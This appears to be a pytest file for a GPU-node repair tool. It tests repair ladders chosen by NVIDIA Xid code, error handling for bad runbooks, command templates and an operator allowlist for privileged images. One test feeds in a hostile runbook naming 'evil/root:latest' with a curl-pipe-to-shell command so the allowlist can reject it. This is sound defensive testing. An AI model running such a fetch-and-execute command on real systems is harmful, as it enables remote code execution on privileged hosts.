"""The repair blocks of a runbook (contract/repair_rungs.py) and the ladder choice:

- `ladder_for`: an Xid a rung lists picks that rung; an Xid no rung lists, or none, goes by
  class; a reset never applies to Xid 79, even through `classes`; repair off -> no rung;
  `order` is honoured;
- the shipped runbooks: Xid 48/94/95 -> reset first, 79 -> reboot first, 64 -> replace only,
  degraded -> nothing, `maintenance` never repairs;
- refusals with a clear error: Xid 79 under `reset.xids`, a budget cost smaller than the rung's
  scope, a rung twice in `order`, an unknown `{placeholder}` in a command, a level outside 1..4;
- defaults are safe (repair off) and the command templates fill `{uuid}` / `{level}`;
- the operator's allowlist: a runbook naming a reset / validation image or command outside it
  is refused naming file, line and field (the empty allowlist refuses every named image); an
  allowlisted image and command load; the allowlist's images must be pinned by digest;
  `sickbay runbooks validate` reads it from SICKBAY_REPAIR_ALLOWLIST;
"""

from __future__ import annotations

from datetime import timedelta
from pathlib import Path

import pytest

from activities.runbooks import RunbookError, load_dir, load_text
from contract.runbook import (
    DEFAULT_RESET_COMMAND,
    DEFAULT_VALIDATION_COMMAND,
    RepairAllowlist,
    RepairPolicy,
    RunbookSpec,
    fill_command,
    ladder_for,
)

ROOT = Path(__file__).resolve().parents[2]
HEAD = "apiVersion: sickbay/v1\nkind: Runbook\nmetadata:\n  name: rb\nspec:\n"


def _repair(**blocks: object) -> RepairPolicy:
    return RunbookSpec.model_validate({"repair": {"enabled": True, **blocks}}).repair


def test_a_listed_xid_picks_its_rungs_in_order() -> None:
    repair = _repair(reset={"xids": [48]}, reboot={"xids": [48, 79]}, replace={"xids": [64]})
    assert ladder_for(repair, "unhealthy", 48) == ["reset", "reboot"]
    assert ladder_for(repair, "unhealthy", 79) == ["reboot"]
    assert ladder_for(repair, "unhealthy", 64) == ["replace"]


def test_an_unlisted_xid_or_none_goes_by_class() -> None:
    repair = _repair(reset={"xids": [48]}, reboot={"classes": ["unhealthy"]})
    assert ladder_for(repair, "unhealthy", None) == ["reboot"]
    assert ladder_for(repair, "unhealthy", 119) == ["reboot"]
    assert ladder_for(repair, "degraded", 74) == []
    # A listed Xid is authoritative: 48 is listed under reset only, so the class does not add
    # the reboot.
    assert ladder_for(repair, "unhealthy", 48) == ["reset"]


def test_a_reset_never_applies_to_xid_79_even_by_class() -> None:
    repair = _repair(reset={"classes": ["unhealthy"]}, reboot={"classes": ["unhealthy"]})
    assert ladder_for(repair, "unhealthy", 79) == ["reboot"]
    assert ladder_for(repair, "unhealthy", 48) == ["reset", "reboot"]


def test_repair_off_or_by_default_chooses_nothing() -> None:
    assert RunbookSpec().repair.enabled is False
    off = RunbookSpec.model_validate({"repair": {"enabled": False, "reset": {"xids": [48]}}}).repair
    assert ladder_for(off, "unhealthy", 48) == []


def test_order_is_honoured() -> None:
    repair = _repair(order=["reboot", "reset"], reset={"xids": [48]}, reboot={"xids": [48]})
    assert ladder_for(repair, "unhealthy", 48) == ["reboot", "reset"]
    assert ladder_for(_repair(order=["reset"], replace={"xids": [48]}), "unhealthy", 48) == []


def test_shipped_ladders() -> None:
    runbooks = load_dir(ROOT / "runbooks")
    repairing = [r for r in runbooks.runbooks if r.name != "maintenance"]
    assert repairing, "no shipped runbook besides maintenance"
    for rb in repairing:
        repair = rb.spec.repair
        assert repair.enabled, rb.name
        for xid in (48, 94, 95):
            assert ladder_for(repair, "unhealthy", xid)[0] == "reset", (rb.name, xid)
        assert ladder_for(repair, "unhealthy", 79)[0] == "reboot", rb.name
        assert ladder_for(repair, "unhealthy", 64) == ["replace"], rb.name
        assert ladder_for(repair, "degraded", 74) == [], rb.name
        assert rb.spec.validation.enabled and rb.spec.lemons.failures == 3, rb.name
    maintenance = runbooks.get("maintenance")
    assert maintenance is not None
    for code in (48, 79, 64, None):
        assert ladder_for(maintenance.spec.repair, "unhealthy", code) == []


@pytest.mark.parametrize(
    ("spec", "message"),
    [
        ("  repair:\n    reset:\n      xids: [48, 79]\n", "Xid 79 cannot be reset"),
        ("  repair:\n    reboot:\n      budgetCost: reset-group\n", "smaller than what a reboot"),
        ("  repair:\n    order: [reset, reset]\n", "a rung may appear only once"),
        ("  repair:\n    reset:\n      command: [reset, '{gpu}']\n", "unknown placeholder {gpu}"),
        ("  validation:\n    level: 5\n", "spec.validation.level"),
        ("  repair:\n    reboot:\n      timeout: 1m\n", "outside the safe bounds 5m..6h"),
    ],
)
def test_bad_repair_blocks_are_refused_with_a_clear_error(spec: str, message: str) -> None:
    with pytest.raises(RunbookError, match=message.replace("{", r"\{").replace("}", r"\}")):
        load_text(HEAD + spec, "rb.yaml")


def test_a_larger_budget_cost_is_allowed() -> None:
    repair = _repair(reset={"xids": [48], "budgetCost": "node"})
    assert repair.reset.cost == "node"
    assert _repair().reset.cost == "reset-group"
    assert _repair().reboot.cost == "node"


def test_command_templates() -> None:
    assert fill_command(list(DEFAULT_RESET_COMMAND), uuid="GPU-1", node="n1") == [
        "nvidia-smi",
        "-r",
        "-i",
        "GPU-1",
    ]
    assert fill_command(list(DEFAULT_VALIDATION_COMMAND), uuid="GPU-1", node="n1", level=3) == [
        "dcgmi",
        "diag",
        "-r",
        "3",
    ]
    spec = RunbookSpec.model_validate({"validation": {"timeout": "2h"}})
    assert spec.validation.timeout == timedelta(hours=2)


PINNED = "registry.invalid/ops/nvidia-smi@sha256:" + "c" * 64
NAMED = (
    "  repair:\n"
    "    enabled: true\n"
    "    reset:\n"
    "      image: {image}\n"
    "      command: {command}\n"
    "  validation:\n"
    "    image: {vimage}\n"
)


def test_a_runbook_cannot_choose_what_runs_privileged() -> None:
    allowlist = RepairAllowlist.model_validate(
        {"reset": {"images": [PINNED], "commands": [["nvidia-smi", "-r", "-i", "{uuid}", "-v"]]}}
    )
    bad = NAMED.format(image="evil/root:latest", command="[sh, -c, 'curl x | sh']", vimage=PINNED)
    with pytest.raises(RunbookError) as caught:
        load_text(HEAD + bad, "rb.yaml", allowlist)
    problems = caught.value.problems
    assert problems[0].startswith("rb.yaml:9: spec.repair.reset.image: image 'evil/root:latest'")
    assert "not in the operator's reset allowlist" in problems[0]
    assert problems[1].startswith("rb.yaml:10: spec.repair.reset.command: command ['sh', '-c'")
    assert problems[2].startswith("rb.yaml:12: spec.validation.image:")
    assert len(problems) == 3
    # The empty allowlist (the default) refuses any image a runbook names.
    with pytest.raises(RunbookError, match="reset.images: none"):
        load_text(HEAD + bad, "rb.yaml")
    ok = NAMED.format(image=PINNED, command="[nvidia-smi, -r, -i, '{uuid}', -v]", vimage="null")
    (rb,) = load_text(HEAD + ok, "rb.yaml", allowlist)
    assert rb.spec.repair.reset.image == PINNED and rb.spec.validation.image is None


def test_allowlisted_images_are_pinned_by_digest() -> None:
    with pytest.raises(ValueError, match="not pinned by digest"):
        RepairAllowlist.model_validate({"reset": {"images": ["nvcr.io/nvidia/cuda:12.8.1"]}})


def test_runbooks_validate_reads_the_allowlist(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    import argparse
    import json

    from worker.commands import cmd_runbooks_validate

    named = NAMED.format(image=PINNED, command="[]", vimage="null")
    (tmp_path / "rb.yaml").write_text(HEAD + named)
    args = argparse.Namespace(path=str(tmp_path))
    assert cmd_runbooks_validate(args) == 1
    assert "spec.repair.reset.image" in capsys.readouterr().err
    monkeypatch.setenv("SICKBAY_REPAIR_ALLOWLIST", json.dumps({"reset": {"images": [PINNED]}}))
    assert cmd_runbooks_validate(args) == 0
